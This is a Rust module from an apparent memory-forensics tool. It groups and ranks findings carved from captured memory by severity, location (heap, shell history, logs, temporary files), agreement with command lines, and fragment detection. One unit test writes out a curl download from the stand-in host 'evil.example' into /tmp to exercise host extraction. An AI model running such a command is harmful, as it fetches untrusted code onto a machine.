//! Groups: one row for a value, with how often it is there, in whose memory, and in the order in which a person should
//! look. Made when a job is sealed, so that a list of results reads as many rows as it prints, however many findings
//! there are.
//!
//! ```text
//! findings, by place -> kind, detector, value -> count, owners, best place      spilled by key where they are many
//!                                             -> what agrees with it            names on command lines, peers of sockets
//!                                             -> rank: severity, place, agreement, rarity
//! ```
//!
//! **Rank.** Severity decides first. Then where a value lies: what a process holds (heap, stack, anonymous memory, socket
//! buffers), shell histories, logs and temporary files come before programs and libraries, and those before
//! documentation and lists of packages, whose addresses are of no machine. What agrees with a value (it is also a
//! socket's peer, or stands on a command line) lifts it; a documentation range or reserved name lowers it, and says so.

use crate::StoreError;
use crate::external::{External, Mergeable};
use crate::merge::Merged;
use crate::query::{QueryLimits, Tables, fail, on_disk, wrong};
use crate::tables::{ROW_GROUP, writer_properties};
use arrow::array::{
    Array, ArrayRef, AsArray, Int32Builder, ListBuilder, RecordBatch, StringBuilder, UInt8Builder,
    UInt64Builder,
};
use arrow::compute::SortOptions;
use arrow::datatypes::{DataType, Field, Int32Type, Schema, SchemaRef, UInt8Type, UInt64Type};
use futures::StreamExt;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use parquet::arrow::{ArrowWriter, ProjectionMask};
use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use std::collections::HashMap;
use std::fs::File;
use std::path::Path;
use std::sync::{Arc, LazyLock};

/// Owners that a group names; more are only counted.
const OWNERS: usize = 4;

/// What else of the captured machine names a value: the value, and where it stands.
#[derive(Debug, Default)]
pub struct Agreement {
    terms: HashMap<Box<str>, &'static str>,
}

/// Terms that are kept at most: what agrees is worth no more memory than that.
const TERMS: usize = 1 << 20;

impl Agreement {
    /// Notes that a value stands somewhere; of several places the first counts.
    pub fn add(&mut self, value: &str, whence: &'static str) {
        let value = value.trim();
        if value.len() >= 4 && self.terms.len() < TERMS && !self.terms.contains_key(value) {
            self.terms.insert(value.into(), whence);
        }
    }

    /// Notes every word of a command line.
    pub fn add_words(&mut self, line: &str, whence: &'static str) {
        let apart = |c: char| c.is_whitespace() || "'\"`=,;|&()<>[]{}".contains(c);
        for word in line.split(apart).filter(|w| !w.is_empty()) {
            self.add(word, whence);
            // The host of a URL, and of what is written host:port or user@host.
            let rest = word.split_once("://").map_or(word, |(_, r)| r);
            let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
            let host = host.rsplit('@').next().unwrap_or(host);
            let host = host.rsplit_once(':').map_or(host, |(h, port)| {
                if port.bytes().all(|b| b.is_ascii_digit()) {
                    h
                } else {
                    host
                }
            });
            if host != word {
                self.add(host, whence);
            }
        }
    }

    fn of(&self, value: &str) -> Option<&'static str> {
        self.terms.get(value).copied().or_else(|| {
            let host = value.split_once("://")?.1;
            let host = host.split(['/', '?', '#', ':']).next()?;
            self.terms.get(host).copied()
        })
    }
}

/// Where a value lies, by what the page is used for and who owns it: how much that says, and its name.
fn place(state: Option<&str>, owner: Option<&str>) -> (i32, &'static str) {
    let owner = owner.unwrap_or("");
    match state {
        Some("process") if owner.contains("[heap]") => (60, "heap"),
        Some("process") if owner.contains("[stack") => (60, "stack"),
        Some("process") if owner.contains("[anon") || !owner.contains('/') => {
            (55, "process memory")
        }
        Some("process" | "file") => file_place(owner),
        Some("slab" | "in use") => (40, "kernel buffers"),
        Some("kernel") => (8, "kernel image"),
        Some("page table") => (5, "page tables"),
        Some("free") => (25, "free memory"),
        _ => (25, "memory"),
    }
}

/// What kind of file an owner's text names. Paths after the Filesystem Hierarchy Standard.
fn file_place(owner: &str) -> (i32, &'static str) {
    let path = &owner[owner.find('/').unwrap_or(0)..];
    let under = |all: &[&str]| all.iter().any(|p| path.starts_with(p));
    let has = |all: &[&str]| all.iter().any(|p| path.contains(p));
    if has(&["_history", ".viminfo", ".lesshst", "/.wget-hsts"]) {
        (60, "shell history")
    } else if under(&["/tmp/", "/var/tmp/", "/dev/shm/", "/run/", "/memfd:"]) {
        (60, "temporary file")
    } else if under(&[
        "/var/lib/dpkg/",
        "/var/lib/apt/",
        "/var/cache/apt/",
        "/var/lib/rpm/",
        "/var/cache/dnf/",
        "/var/lib/dnf/",
        "/lib/apk/",
        "/var/lib/pacman/",
    ]) {
        (2, "list of packages")
    } else if under(&[
        "/usr/share/doc",
        "/usr/share/man/",
        "/usr/share/info/",
        "/usr/share/licenses/",
        "/usr/share/common-licenses/",
        "/usr/share/locale/",
        "/usr/share/i18n/",
    ]) {
        (3, "documentation")
    } else if under(&["/var/log/", "/run/log/"]) {
        (50, "log")
    } else if under(&["/home/", "/root/", "/var/www/", "/srv/", "/opt/"]) {
        (52, "file of a user or service")
    } else if under(&["/etc/"]) {
        (35, "configuration")
    } else if under(&["/usr/", "/lib", "/bin/", "/sbin/"])
        || has(&[".so", "/site-packages/", "/node_modules/"])
    {
        (8, "program or library")
    } else {
        (28, "file")
    }
}

/// One group while it is made.
#[derive(Clone, Debug, Serialize, Deserialize)]
struct Found {
    severity_rank: u8,
    severity: Cow<'static, str>,
    count: u64,
    agree: u8,
    first_offset: u64,
    first_physical: Option<u64>,
    score: i32,
    place: Cow<'static, str>,
    owners: Vec<String>,
    /// Owners beyond those named, as far as they were told apart.
    more_owners: bool,
    reserved: Option<String>,
    /// No place of it is beyond doubt.
    doubtful: bool,
}

/// A severity, without a copy where it is one of the five.
fn grade(word: &str) -> Cow<'static, str> {
    const ALL: [&str; 5] = ["info", "low", "medium", "high", "critical"];
    match ALL.iter().find(|g| **g == word) {
        Some(g) => Cow::Borrowed(g),
        None => Cow::Owned(word.to_owned()),
    }
}

impl Found {
    fn own(&mut self, owner: &str) {
        if self.owners.iter().any(|o| o == owner) {
            return;
        }
        if self.owners.len() < OWNERS {
            self.owners.push(owner.to_owned());
        } else {
            self.more_owners = true;
        }
    }
}

impl Mergeable for Found {
    fn merge(&mut self, other: Self) {
        if other.severity_rank > self.severity_rank {
            self.severity_rank = other.severity_rank;
            self.severity = other.severity;
        }
        self.count += other.count;
        self.agree = self.agree.max(other.agree);
        if other.first_offset < self.first_offset {
            self.first_offset = other.first_offset;
            self.first_physical = other.first_physical;
        }
        if other.score > self.score {
            self.score = other.score;
            self.place = other.place;
        }
        for o in &other.owners {
            self.own(o);
        }
        self.more_owners |= other.more_owners;
        self.reserved = self.reserved.take().or(other.reserved);
        self.doubtful &= other.doubtful;
    }

    fn bytes(&self) -> usize {
        let held = |s: &Cow<'_, str>| match s {
            Cow::Owned(s) => s.capacity() + 16,
            Cow::Borrowed(_) => 0,
        };
        let owners = self.owners.iter().map(|o| o.capacity() + 16);
        owners.sum::<usize>()
            + self.owners.capacity() * std::mem::size_of::<String>()
            + held(&self.severity)
            + held(&self.place)
            + self.reserved.as_ref().map_or(0, |r| r.capacity() + 16)
    }
}

static SCHEMA: LazyLock<SchemaRef> = LazyLock::new(|| {
    let item = Arc::new(Field::new_list_field(DataType::Utf8, true));
    Arc::new(Schema::new(vec![
        Field::new("capture", DataType::Utf8, false),
        Field::new("position", DataType::UInt64, false),
        Field::new("severity", DataType::Utf8, false),
        Field::new("severity_rank", DataType::UInt8, false),
        Field::new("kind", DataType::Utf8, false),
        Field::new("detector", DataType::Utf8, false),
        Field::new("value", DataType::Utf8, false),
        Field::new("count", DataType::UInt64, false),
        Field::new("rank", DataType::Int32, false),
        Field::new("place", DataType::Utf8, false),
        Field::new("agrees", DataType::Utf8, true),
        Field::new("reserved", DataType::Utf8, true),
        Field::new("detectors", DataType::UInt8, false),
        Field::new("owners", DataType::List(item), false),
        Field::new("more_owners", DataType::Boolean, false),
        Field::new("first_offset", DataType::UInt64, false),
        Field::new("physical_address", DataType::UInt64, true),
    ]))
});

/// The statement that lists the groups that a condition chooses, in their order. The columns are those of `results`.
pub fn list(filter: &str, limit: usize) -> String {
    let columns = "severity, kind, value, count, place, agrees, reserved, array_to_string(owners, '; ') AS owners, \
                   first_offset, detector";
    match (filter, limit) {
        (_, 0) => format!("SELECT {columns} FROM groups WHERE {filter} ORDER BY position"),
        // The first rows by position are those that are asked for: what lies behind is not even opened.
        ("true", n) => {
            format!("SELECT {columns} FROM groups WHERE position < {n} ORDER BY position LIMIT {n}")
        }
        (_, n) => {
            format!("SELECT {columns} FROM groups WHERE {filter} ORDER BY position LIMIT {n}")
        }
    }
}

/// Schema of the table `groups`.
pub fn groups_schema() -> SchemaRef {
    SCHEMA.clone()
}

/// Columns of the findings that are read.
const READ: &[&str] = &[
    "detector",
    "kind",
    "severity",
    "severity_rank",
    "image_offset",
    "physical_address",
    "value",
    "fields",
    "page_state",
    "owner",
    "spliced",
];

/// The reason that a carver gives for a value being reserved, from its fields.
fn reserved(fields: Option<&str>) -> Option<String> {
    let fields = fields.filter(|f| f.contains("\"reserved\""))?;
    let parsed: serde_json::Value = serde_json::from_str(fields).ok()?;
    parsed.get("reserved")?.as_str().map(str::to_owned)
}

/// Whether a carver doubts that the value is one: a fragment, or a number that may be something else.
fn doubtful(fields: Option<&str>) -> bool {
    fields.is_some_and(|f| f.contains("\"doubt\":\""))
}

/// Reads the finished table of findings and groups them.
fn gather(path: &Path, all: &mut External<Found>) -> Result<(), StoreError> {
    let open = |e: std::io::Error| on_disk(path, &e);
    let b =
        ParquetRecordBatchReaderBuilder::try_new(File::open(path).map_err(open)?).map_err(fail)?;
    let only = ProjectionMask::columns(b.parquet_schema(), READ.iter().copied());
    let reader = b
        .with_projection(only)
        .with_batch_size(8192)
        .build()
        .map_err(fail)?;
    let mut key = Vec::new();
    // Findings are in the order of their places: those of one place follow each other.
    let mut at = (u64::MAX, Vec::<String>::new());
    for batch in reader {
        let b = batch.map_err(fail)?;
        let text = |name: &str| b.column_by_name(name).map(|c| c.as_string::<i32>());
        let (
            Some(detector),
            Some(kind),
            Some(severity),
            Some(value),
            Some(fields),
            Some(state),
            Some(owner),
        ) = (
            text("detector"),
            text("kind"),
            text("severity"),
            text("value"),
            text("fields"),
            text("page_state"),
            text("owner"),
        )
        else {
            return Err(wrong("the findings lack a column"));
        };
        let number = |name: &str| {
            b.column_by_name(name)
                .map(|c| c.as_primitive::<UInt64Type>())
        };
        let (Some(offset), Some(physical)) = (number("image_offset"), number("physical_address"))
        else {
            return Err(wrong("the findings lack their places"));
        };
        let rank = b
            .column_by_name("severity_rank")
            .map(|c| c.as_primitive::<UInt8Type>());
        let Some(rank) = rank else {
            return Err(wrong("the findings lack their severity"));
        };
        let spliced = b.column_by_name("spliced").map(|c| c.as_boolean());
        let Some(spliced) = spliced else {
            return Err(wrong("the findings lack a column"));
        };
        let opt =
            |a: &arrow::array::StringArray, i: usize| a.is_valid(i).then(|| a.value(i).to_owned());
        for i in 0..b.num_rows() {
            if at.0 != offset.value(i) {
                at = (offset.value(i), Vec::new());
            }
            if !at.1.iter().any(|d| d == detector.value(i)) {
                at.1.push(detector.value(i).to_owned());
            }
            let agree = u8::try_from(at.1.len()).unwrap_or(u8::MAX);
            let owned = owner.is_valid(i).then(|| owner.value(i));
            let (mut score, place) = place(state.is_valid(i).then(|| state.value(i)), owned);
            if spliced.is_valid(i) && spliced.value(i) {
                score -= 25;
            }
            key.clear();
            for part in [kind.value(i), detector.value(i), value.value(i)] {
                key.extend_from_slice(part.as_bytes());
                key.push(0);
            }
            let place_of = (
                offset.value(i),
                physical.is_valid(i).then(|| physical.value(i)),
            );
            let make = || Found {
                severity_rank: rank.value(i),
                severity: grade(severity.value(i)),
                count: 0,
                agree,
                first_offset: place_of.0,
                first_physical: place_of.1,
                score,
                place: Cow::Borrowed(place),
                owners: Vec::new(),
                more_owners: false,
                reserved: reserved(opt(fields, i).as_deref()),
                doubtful: true,
            };
            let doubted = fields.is_valid(i) && doubtful(Some(fields.value(i)));
            all.add(&key, make, |f| {
                f.count += 1;
                f.agree = f.agree.max(agree);
                f.doubtful &= doubted;
                if rank.value(i) > f.severity_rank {
                    f.severity_rank = rank.value(i);
                    f.severity = grade(severity.value(i));
                }
                if score > f.score {
                    f.score = score;
                    f.place = Cow::Borrowed(place);
                }
                if let Some(o) = owned {
                    f.own(o);
                }
            })?;
        }
    }
    Ok(())
}

/// Rows of the groups' table.
struct Builder {
    text: [StringBuilder; 4],
    severity_rank: UInt8Builder,
    count: UInt64Builder,
    rank: Int32Builder,
    place: StringBuilder,
    agrees: StringBuilder,
    reserved: StringBuilder,
    detectors: UInt8Builder,
    owners: ListBuilder<StringBuilder>,
    more_owners: arrow::array::BooleanBuilder,
    first_offset: UInt64Builder,
    physical: UInt64Builder,
    /// What the rows take.
    bytes: usize,
}

impl Builder {
    fn new() -> Self {
        Self {
            text: std::array::from_fn(|_| StringBuilder::new()),
            severity_rank: UInt8Builder::new(),
            count: UInt64Builder::new(),
            rank: Int32Builder::new(),
            place: StringBuilder::new(),
            agrees: StringBuilder::new(),
            reserved: StringBuilder::new(),
            detectors: UInt8Builder::new(),
            owners: ListBuilder::new(StringBuilder::new()),
            more_owners: arrow::array::BooleanBuilder::new(),
            first_offset: UInt64Builder::new(),
            physical: UInt64Builder::new(),
            bytes: 0,
        }
    }

    fn push(&mut self, key: &[u8], f: Found, agreement: &Agreement) {
        let mut parts = key
            .split(|b| *b == 0)
            .map(|p| std::str::from_utf8(p).unwrap_or(""));
        let (kind, detector) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
        // A value may hold a NUL itself.
        let start = kind.len() + detector.len() + 2;
        let value = key
            .get(start..key.len().saturating_sub(1))
            .unwrap_or_default();
        let value = std::str::from_utf8(value).unwrap_or("");
        let agrees = agreement.of(value);
        let mut rank = f.score + 10 * i32::from(f.agree.saturating_sub(1).min(3));
        rank += if agrees.is_some() { 40 } else { 0 };
        rank -= if f.reserved.is_some() { 30 } else { 0 };
        rank -= if f.doubtful { DOUBT } else { 0 };
        for (b, v) in self
            .text
            .iter_mut()
            .zip([&*f.severity, kind, detector, value])
        {
            b.append_value(v);
            self.bytes += v.len();
        }
        self.bytes +=
            ROW_BYTES + f.place.len() + f.owners.iter().map(|o| o.len() + 4).sum::<usize>();
        self.severity_rank.append_value(f.severity_rank);
        self.count.append_value(f.count);
        self.rank.append_value(rank);
        self.place.append_value(&f.place);
        self.agrees.append_option(agrees);
        self.reserved.append_option(f.reserved.as_deref());
        self.detectors.append_value(f.agree);
        for o in &f.owners {
            self.owners.values().append_value(o);
        }
        self.owners.append(true);
        self.more_owners.append_value(f.more_owners);
        self.first_offset.append_value(f.first_offset);
        self.physical.append_option(f.first_physical);
    }

    /// The rows so far, without capture and position.
    fn finish(&mut self) -> Result<RecordBatch, StoreError> {
        self.bytes = 0;
        let [severity, kind, detector, value] = self
            .text
            .each_mut()
            .map(|b| Arc::new(b.finish()) as ArrayRef);
        let columns: Vec<ArrayRef> = vec![
            severity,
            Arc::new(self.severity_rank.finish()),
            kind,
            detector,
            value,
            Arc::new(self.count.finish()),
            Arc::new(self.rank.finish()),
            Arc::new(self.place.finish()),
            Arc::new(self.agrees.finish()),
            Arc::new(self.reserved.finish()),
            Arc::new(self.detectors.finish()),
            Arc::new(self.owners.finish()),
            Arc::new(self.more_owners.finish()),
            Arc::new(self.first_offset.finish()),
            Arc::new(self.physical.finish()),
        ];
        let fields = Schema::new(SCHEMA.fields()[2..].to_vec());
        RecordBatch::try_new(Arc::new(fields), columns).map_err(fail)
    }
}

/// The order in which a person should look: name, whether it goes down.
const ORDER: &[(&str, bool)] = &[
    ("severity_rank", true),
    ("rank", true),
    ("count", false),
    ("first_offset", false),
    ("kind", false),
    ("value", false),
    ("detector", false),
];

/// Of the memory that grouping may take, the part that rows may take that are sorted in memory: builders grow to twice of
/// what they need, and the sorted rows are a copy. More go over the disk.
const IN_MEMORY: usize = 4;
/// What a row takes besides its texts: numbers, and where each text ends.
const ROW_BYTES: usize = 80;

/// Writes rows with their capture and position.
struct Output {
    writer: ArrowWriter<File>,
    capture: String,
    rows: u64,
}

impl Output {
    fn create(to: &Path, capture: &str) -> Result<Self, StoreError> {
        let mut properties = writer_properties(None).into_builder();
        // By its position a list is cut off without reading what lies behind.
        properties = properties
            .set_column_statistics_enabled(
                "position".into(),
                parquet::file::properties::EnabledStatistics::Chunk,
            )
            .set_max_row_group_row_count(Some(ROW_GROUP));
        let file = File::create(to).map_err(|e| on_disk(to, &e))?;
        Ok(Self {
            writer: ArrowWriter::try_new(file, SCHEMA.clone(), Some(properties.build()))
                .map_err(fail)?,
            capture: capture.to_owned(),
            rows: 0,
        })
    }

    fn write(&mut self, b: &RecordBatch) -> Result<(), StoreError> {
        let n = b.num_rows();
        let capture = arrow::array::StringArray::from_iter_values(std::iter::repeat_n(
            self.capture.as_str(),
            n,
        ));
        let position = arrow::array::UInt64Array::from_iter_values(self.rows..self.rows + n as u64);
        let mut columns: Vec<ArrayRef> = vec![Arc::new(capture), Arc::new(position)];
        columns.extend(b.columns().iter().cloned());
        let b = RecordBatch::try_new(SCHEMA.clone(), columns).map_err(fail)?;
        self.writer.write(&b).map_err(fail)?;
        self.rows += n as u64;
        Ok(())
    }

    fn close(self, to: &Path) -> Result<Merged, StoreError> {
        let rows = self.rows;
        self.writer.close().map_err(fail)?;
        let bytes = std::fs::metadata(to).map_err(|e| on_disk(to, &e))?.len();
        Ok(Merged {
            rows,
            bytes,
            copied: 0,
        })
    }
}

/// Kinds whose values may be told with their beginning overwritten, as freed memory leaves them.
const FRAGMENTS: &[&str] = &["domain", "email", "ipv4"];
/// A value that is found more often than this is none.
const FEW: u64 = 2;
/// What a doubt takes off the rank.
const DOUBT: i32 = 50;

/// Lowers the rank of rare values that are the end of another one, cut within a word: `ample.net` beside `example.net`.
fn without_fragments(b: RecordBatch) -> Result<RecordBatch, StoreError> {
    let text = |name: &str| b.column_by_name(name).map(|c| c.as_string::<i32>());
    let (Some(kind), Some(value)) = (text("kind"), text("value")) else {
        return Err(wrong("a group lacks a column"));
    };
    let (Some(count), Some(rank)) = (b.column_by_name("count"), b.column_by_name("rank")) else {
        return Err(wrong("a group lacks a column"));
    };
    let count = count.as_primitive::<UInt64Type>();
    let mut ranks = rank.as_primitive::<Int32Type>().values().to_vec();
    // By their last byte first, a value stands before those that it is the end of.
    let mut all: Vec<(&str, Vec<u8>, usize)> = (0..b.num_rows())
        .filter(|i| FRAGMENTS.contains(&kind.value(*i)))
        .map(|i| (kind.value(i), value.value(i).bytes().rev().collect(), i))
        .collect();
    all.sort_unstable();
    for (at, (kind, own, i)) in all.iter().enumerate() {
        let longer = all
            .iter()
            .skip(at + 1)
            .take_while(|(k, other, _)| k == kind && other.starts_with(own));
        let cut = |other: &Vec<u8>| {
            other
                .get(own.len())
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
        };
        let whole = |(_, other, j): &(&str, Vec<u8>, usize)| {
            cut(other) && count.value(*j) >= count.value(*i)
        };
        // A few are enough to see.
        if count.value(*i) <= FEW && longer.take(64).any(whole) {
            ranks[*i] -= DOUBT;
        }
    }
    let at = b.schema().index_of("rank").map_err(fail)?;
    let mut columns = b.columns().to_vec();
    columns[at] = Arc::new(arrow::array::Int32Array::from(ranks));
    RecordBatch::try_new(b.schema(), columns).map_err(fail)
}

fn sorted(b: &RecordBatch) -> Result<RecordBatch, StoreError> {
    let columns = ORDER.iter().map(|(name, descending)| {
        let values = b
            .column_by_name(name)
            .cloned()
            .ok_or_else(|| wrong("a group lacks a column"))?;
        let options = SortOptions {
            descending: *descending,
            nulls_first: false,
        };
        Ok(arrow::compute::SortColumn {
            values,
            options: Some(options),
        })
    });
    let columns = columns.collect::<Result<Vec<_>, StoreError>>()?;
    let order = arrow::compute::lexsort_to_indices(&columns, None).map_err(fail)?;
    arrow::compute::take_record_batch(b, &order).map_err(fail)
}

/// Groups the findings of a finished table into the file `to`. Memory is bounded by `limits`; what doesn't fit is
/// spilled.
pub async fn group_findings(
    findings: &Path,
    agreement: Agreement,
    capture: &str,
    to: &Path,
    limits: &QueryLimits,
) -> Result<Merged, StoreError> {
    let (from, target, capture) = (findings.to_owned(), to.to_owned(), capture.to_owned());
    let (spill, budget) = (limits.spill.clone(), limits.memory / 2);
    let rows_budget = limits.memory / IN_MEMORY;
    let unsorted = limits.spill.join("groups-unsorted.parquet");
    let many = unsorted.clone();
    let c = capture.clone();
    let done = tokio::task::spawn_blocking(move || -> Result<Option<Merged>, StoreError> {
        let mut all = External::new(&spill, budget);
        gather(&from, &mut all)?;
        let mut b = Builder::new();
        let mut over: Option<Output> = None;
        all.drain(|key, f| {
            b.push(key, f, &agreement);
            if b.bytes >= rows_budget {
                let out = match &mut over {
                    Some(o) => o,
                    None => over.insert(Output::create(&many, &c)?),
                };
                out.write(&b.finish()?)?;
            }
            Ok(())
        })?;
        let rest = b.finish()?;
        if let Some(mut o) = over {
            o.write(&rest)?;
            o.close(&many)?;
            return Ok(None);
        }
        let mut out = Output::create(&target, &c)?;
        let all = sorted(&without_fragments(rest)?)?;
        for at in (0..all.num_rows()).step_by(8192) {
            out.write(&all.slice(at, 8192.min(all.num_rows() - at)))?;
        }
        out.close(&target).map(Some)
    });
    if let Some(m) = done.await.map_err(fail)?? {
        return Ok(m);
    }
    let t: Tables = crate::query::local(&limits.spill, limits)?;
    t.register(
        "g",
        &["groups-unsorted.parquet".to_owned()],
        Some(SCHEMA.clone()),
    )
    .await?;
    let order: Vec<String> = ORDER
        .iter()
        .map(|(n, down)| format!("{n} {}", if *down { "DESC" } else { "ASC" }))
        .collect();
    let sql = format!(
        "SELECT * EXCLUDE (capture, position) FROM g ORDER BY {}",
        order.join(", ")
    );
    let mut rows = t.stream(&sql).await?;
    let mut out = Output::create(to, &capture)?;
    while let Some(b) = rows.next().await {
        out.write(&b.map_err(fail)?)?;
    }
    std::fs::remove_file(&unsorted).map_err(|e| on_disk(&unsorted, &e))?;
    out.close(to)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "a failed test says where")]
    use super::*;

    #[test]
    fn where_a_value_lies_decides_before_how_rare_it_is() {
        let of = |state, owner| place(Some(state), owner).0;
        let heap = of("process", Some("sshd[8] [heap]"));
        let log = of("file", Some("/var/log/auth.log"));
        let library = of(
            "process",
            Some("cron[9] /usr/lib/x86_64-linux-gnu/libc.so.6"),
        );
        let packages = of("file", Some("/var/lib/dpkg/status"));
        let history = of("file", Some("/root/.bash_history"));
        assert!(heap > log && log > library && library > packages);
        assert!(history >= heap && of("free", None) > library);
    }

    #[test]
    fn words_of_command_lines_and_their_hosts_agree() {
        let mut a = Agreement::default();
        a.add_words(
            "curl -o /tmp/x 'http://evil.example:8080/a?b' user@10.1.2.3:22",
            "command line",
        );
        for v in ["evil.example", "10.1.2.3", "http://evil.example/other"] {
            assert_eq!(a.of(v), Some("command line"), "{v}");
        }
        assert_eq!(a.of("good.example"), None);
    }

    #[test]
    fn the_end_of_another_value_ranks_below_it() {
        let values = [
            ("domain", "example.net", 9),
            ("domain", "ample.net", 1),
            ("domain", "net-example.net", 1),
            ("domain", "sample.net", 5),
            ("email", "x@example.net", 1),
            ("ipv4", "192.0.2.10", 3),
            ("ipv4", "92.0.2.10", 1),
            ("ipv4", "92.0.2.1", 1),
        ];
        let column = |f: &dyn Fn(usize) -> &'static str| -> ArrayRef {
            Arc::new(arrow::array::StringArray::from_iter_values(
                (0..values.len()).map(f),
            ))
        };
        let b = RecordBatch::try_from_iter([
            ("kind", column(&|i| values[i].0)),
            ("value", column(&|i| values[i].1)),
            (
                "count",
                Arc::new(arrow::array::UInt64Array::from_iter_values(
                    values.iter().map(|v| v.2),
                )) as ArrayRef,
            ),
            (
                "rank",
                Arc::new(arrow::array::Int32Array::from(vec![60; values.len()])) as ArrayRef,
            ),
        ])
        .unwrap();
        let b = without_fragments(b).unwrap();
        let rank = b
            .column_by_name("rank")
            .unwrap()
            .as_primitive::<Int32Type>();
        let lowered: Vec<&str> = (0..values.len())
            .filter(|i| rank.value(*i) < 60)
            .map(|i| values[i].1)
            .collect();
        // `example.net` is the end of `net-example.net` too, but there more often.
        assert_eq!(lowered, ["ample.net", "92.0.2.10"]);
    }
}
